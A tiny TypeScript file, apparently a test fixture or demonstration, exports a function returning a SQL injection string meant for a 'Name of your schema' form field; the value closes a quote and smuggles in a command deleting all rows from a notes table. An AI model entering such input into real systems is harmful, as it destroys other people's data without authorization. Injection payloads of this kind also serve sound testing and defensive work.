/** What you type into the field “Name of your schema”. */
export function payload(): string {
  return 'initech"; delete from globex.notes; -- '
}
